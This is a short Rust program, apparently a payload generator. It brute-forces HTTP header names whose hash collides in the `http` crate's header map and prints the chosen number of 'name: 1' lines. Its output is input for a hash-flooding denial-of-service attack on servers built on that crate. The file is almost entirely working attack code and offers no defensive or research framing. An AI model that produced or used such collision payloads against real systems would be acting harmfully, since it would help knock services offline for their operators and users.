//! colliding COUNT: a header section of so many names whose quick hash is the same in the map of `http`, which hashes a
//! mark of the kind of name before its bytes.
use std::hash::{Hash, Hasher};
use std::io::Write;

fn hash(name: &[u8]) -> u64 {
    let mut hasher = fnv::FnvHasher::default();
    http::HeaderName::from_bytes(name).unwrap().hash(&mut hasher);
    hasher.finish() & 0x7fff
}

fn main() {
    let count: usize = std::env::args().nth(1).unwrap().parse().unwrap();
    let mut out = std::io::BufWriter::new(std::io::stdout());
    let mut made = 0;
    let mut name = *b"x-aaaaaaaa";
    while made < count {
        if hash(&name) == 77 {
            out.write_all(&name).unwrap();
            out.write_all(b": 1\n").unwrap();
            made += 1;
        }
        // The next name, as a number of letters.
        let mut at = name.len() - 1;
        while name[at] == b'z' {
            name[at] = b'a';
            at -= 1;
        }
        name[at] += 1;
    }
}
